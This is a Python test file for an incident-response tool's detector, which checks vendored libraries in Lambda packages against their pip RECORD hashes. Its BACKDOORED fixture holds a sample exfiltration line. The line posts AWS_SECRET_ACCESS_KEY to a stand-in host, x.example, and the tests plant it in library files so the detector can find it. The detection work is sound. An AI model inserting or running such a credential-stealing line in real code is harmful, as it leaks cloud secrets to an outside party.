"""LIR-CODE-006: a vendored library's files are held to what its installer's RECORD says."""

from __future__ import annotations

import base64
import hashlib
import json

from click.testing import CliRunner

from lambda_ir.analyze.detectors import cap_gained, code_installed
from lambda_ir.cli.main import cli
from lambda_ir.evidence import Case
from lambda_ir.evidence.index import open_index
from lambda_ir.model import Severity
from tests.analyze.casebuild import REGION, CaseBuilder, function_config, run_detector, zip_bytes
from tests.analyze.elfbuild import LIBRARY

SESSIONS = "def request(method, url):\n    return send(method, url)\n"
BACKDOORED = SESSIONS + (
    "import os, urllib.request\n"
    'urllib.request.urlopen("https://x.example/c", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n'
)
HANDLER = (
    "import requests\n\n"
    "def handler(event, context):\n"
    "    return requests.get('https://api.example.com').status_code\n"
)


def digest(data: bytes | str) -> str:
    """RECORD's hash of the bytes, as pip writes it (written out here, not the product's)."""
    raw = data.encode() if isinstance(data, str) else data
    return base64.urlsafe_b64encode(hashlib.sha256(raw).digest()).rstrip(b"=").decode()


def installed(
    files: dict[str, bytes | str], dist: str = "requests-2.32.3", base: str = ""
) -> dict[str, bytes | str]:
    """`files` as pip installs them under `base`: each listed in the dist-info's RECORD with
    its hash and size, the RECORD listing itself without one, a script beside the site."""
    lines = [f"{name},sha256={digest(data)},{len(data)}" for name, data in files.items()]
    lines += [f"{dist}.dist-info/RECORD,,", "../../bin/normalizer,sha256=abc,12"]
    return {
        **{base + name: data for name, data in files.items()},
        f"{base}{dist}.dist-info/RECORD": "\n".join(lines) + "\n",
    }


REQUESTS = {
    "requests/__init__.py": "from .api import get\n",
    "requests/api.py": "from .sessions import request\ndef get(u):\n    return request(u)\n",
    "requests/sessions.py": SESSIONS,
    "requests/cacert.pem": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
}


def _function(builder: CaseBuilder, files: dict[str, bytes | str], name: str = "orders") -> None:
    blob = zip_bytes({"app.py": HANDLER, **files})
    builder.code(blob, name)
    builder.versions(name, [function_config(name, code=blob)])


def test_a_library_as_pip_installed_it_is_quiet(builder: CaseBuilder) -> None:
    _function(
        builder,
        {
            **installed(REQUESTS),
            # compiled after install, and the handler's own files at the top: not the library's
            "requests/__pycache__/sessions.cpython-312.pyc": b"\xcb\r\r\n" + bytes(12),
            "helpers.py": "def shout(s):\n    return s.upper()\n",
            "requests/notes.txt": "data files added beside a library are not code\n",
            # compiled beside its recorded source (`compileall -b`, the source then deleted
            # by some builds): bytecode of a recorded file, not judged
            "requests/api.pyc": b"\xcb\r\r\n" + bytes(12),
        },
    )
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_changed_library_file_is_high_and_named(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/sessions.py"] = BACKDOORED
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["changed"] == ["requests/sessions.py"]
    assert finding.details["distribution"] == "requests"
    assert finding.details["version"] == "2.32.3"
    assert finding.details["record"] == "requests-2.32.3.dist-info/RECORD"
    assert [e.member for e in finding.evidence] == ["requests/sessions.py"]
    assert "requests 2.32.3" in finding.summary and "1 file differs from" in finding.summary
    assert "changed after install" in finding.summary


def test_a_changed_data_file_counts_too(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/cacert.pem"] = (
        str(files["requests/cacert.pem"]) + "-----BEGIN CERTIFICATE-----\nEVIL\n"
    )
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["changed"] == ["requests/cacert.pem"]


def test_line_endings_alone_do_not_count(builder: CaseBuilder) -> None:
    """A site-packages committed to git comes back with CRLF (autocrlf), or LF from CRLF."""
    files = installed({**REQUESTS, "requests/crlf.py": "a = 1\r\nb = 2\r\n"})
    for name in REQUESTS:
        files[name] = str(files[name]).replace("\n", "\r\n")
    files["requests/crlf.py"] = "a = 1\nb = 2\n"
    _function(builder, files)
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_file_added_to_a_library_is_medium_wherever_in_it(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/_telemetry.py"] = BACKDOORED
    files["requests/packages/vendor/__init__.py"] = BACKDOORED  # a new folder in the library
    files["requests/_speedups.bin"] = LIBRARY  # an ELF library, whatever its name
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.MEDIUM
    assert sorted(finding.details["added"]) == [
        "requests/_speedups.bin",
        "requests/_telemetry.py",
        "requests/packages/vendor/__init__.py",
    ]
    assert finding.details["changed"] == []
    assert "3 runnable files are not in" in finding.summary


def test_a_stripped_library_is_low_and_a_grown_one_high(builder: CaseBuilder) -> None:
    lib = "requests/_native.cpython-312-x86_64-linux-gnu.so"
    files = installed({**REQUESTS, lib: LIBRARY + bytes(512)})
    files[lib] = LIBRARY  # `strip` dropped its symbols: smaller than recorded
    _function(builder, files, "stripped")
    grown = installed({**REQUESTS, lib: LIBRARY})
    grown[lib] = LIBRARY + b"payload"
    _function(builder, grown, "grown")
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, code_installed.DETECTOR)}
    assert found["stripped"].severity is Severity.LOW
    assert found["stripped"].details["stripped"] == [lib]
    assert "what `strip` makes" in found["stripped"].summary
    assert found["grown"].severity is Severity.HIGH
    assert found["grown"].details["changed"] == [lib]


def test_a_package_rewritten_whole_is_low(builder: CaseBuilder) -> None:
    """A minifier over the whole package changes every file: a build step, listed."""
    modules = {f"requests/m{n}.py": f"value_{n} = {n}  # a comment\n" for n in range(30)}
    files = installed(modules)
    for name in modules:
        files[name] = str(files[name]).split("  #")[0] + "\n"
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.LOW
    assert len(finding.details["changed"]) == 30
    assert "rewrote them" in finding.summary and "and 25 more" in finding.summary


def test_a_file_two_distributions_install_matches_either(builder: CaseBuilder) -> None:
    """Two wheels shipping a top-level `tests/__init__.py`: the last install's bytes stand."""
    first = installed({"tests/__init__.py": "# one\n", "alpha/__init__.py": ""}, "alpha-1.0")
    second = installed({"tests/__init__.py": "# two\n", "beta/__init__.py": ""}, "beta-2.0")
    _function(builder, {**first, **second})
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_layer_site_packages_and_quoted_paths_are_read(builder: CaseBuilder) -> None:
    base = "python/lib/python3.12/site-packages/"
    files = installed({**REQUESTS, "requests/odd,name.py": "x = 1\n"}, base=base)
    record = f"{base}requests-2.32.3.dist-info/RECORD"
    files[record] = str(files[record]).replace("requests/odd,name.py", '"requests/odd,name.py"')
    files[f"{base}requests/odd,name.py"] = "x = 2\n"
    arn = f"arn:aws:lambda:{REGION}:111122223333:layer:deps:3"
    layer = zip_bytes(files)
    builder.layer(arn, layer)
    blob = zip_bytes({"app.py": HANDLER})
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob, layers=[arn])])
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.resource.endswith(":function:orders:$LATEST")  # on its first user
    assert arn in finding.details["used_by"]
    assert finding.details["changed"] == [f"{base}requests/odd,name.py"]


def test_a_hashless_or_weak_entry_vouches_for_nothing(builder: CaseBuilder) -> None:
    """Only pip's sha256 lines count: an attacker's `md5=` or empty hash for a new file
    leaves it added to the library."""
    files = installed(REQUESTS)
    record = "requests-2.32.3.dist-info/RECORD"
    files[record] = str(files[record]) + "requests/hook.py,md5=abc,10\nrequests/more.py,,\n"
    files["requests/hook.py"] = BACKDOORED
    files["requests/more.py"] = BACKDOORED
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert sorted(finding.details["added"]) == ["requests/hook.py", "requests/more.py"]


def test_a_changed_sdk_file_is_read_as_the_packages_own_code(builder: CaseBuilder) -> None:
    """botocore's files are left out of the capability rows (they read credentials by
    design) only while its RECORD vouches for them: a changed one is read, as own code."""
    sdk = {
        "botocore/__init__.py": "__version__ = '1.35.0'\n",
        "botocore/credentials.py": "def load():\n    return None\n",
    }
    files = installed(sdk, "botocore-1.35.0")
    files["botocore/credentials.py"] = BACKDOORED
    files["botocore/hooks_extra.py"] = BACKDOORED  # added: read too
    _function(builder, files)
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT DISTINCT file, dependency FROM capabilities "
        "WHERE kind = 'network' AND file LIKE 'botocore/%'"
    ).fetchall()
    assert sorted(rows) == [("botocore/credentials.py", None), ("botocore/hooks_extra.py", None)]


def test_an_intact_dependency_keeps_its_name_and_a_changed_one_loses_it(
    builder: CaseBuilder,
) -> None:
    """A gain in an intact dependency is LOW (named); once its file differs from its RECORD,
    its lines are the package's own."""
    six = "def exec_(code, globs):\n    exec(code, globs)\n"
    intact = installed({"six.py": six}, "six-1.16.0")
    changed = dict(intact, **{"six.py": six + "exec(globs['x'])\n"})
    old = zip_bytes({"app.py": HANDLER})
    builder.code(old, "deps", "1")
    configs = [function_config("deps", "1", code=old)]
    for number, files in ((2, intact), (3, changed)):
        blob = zip_bytes({"app.py": HANDLER, **files})
        builder.code(blob, "deps", str(number))
        configs.append(function_config("deps", str(number), code=blob))
    builder.versions("deps", configs)
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT DISTINCT version, dependency FROM capabilities WHERE file = 'six.py'"
    ).fetchall()
    assert sorted(rows, key=str) == [("2", "six"), ("3", None)]
    (gain,) = run_detector(builder, cap_gained.DETECTOR)
    assert "(six.py:2 in dependency six)" in gain.summary and gain.severity is Severity.LOW


def test_analyze_reports_a_backdoored_library_end_to_end(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/sessions.py"] = BACKDOORED
    _function(builder, files)
    result = CliRunner().invoke(cli, ["--quiet", "analyze", "--case", str(builder.root)])
    assert result.exit_code == 0, result.output
    findings = json.loads((builder.root / "findings.json").read_text())
    (found,) = [f for f in findings if f["detector"] == "LIR-CODE-006"]
    assert found["severity"] == "high"
    assert found["details"]["changed"] == ["requests/sessions.py"]
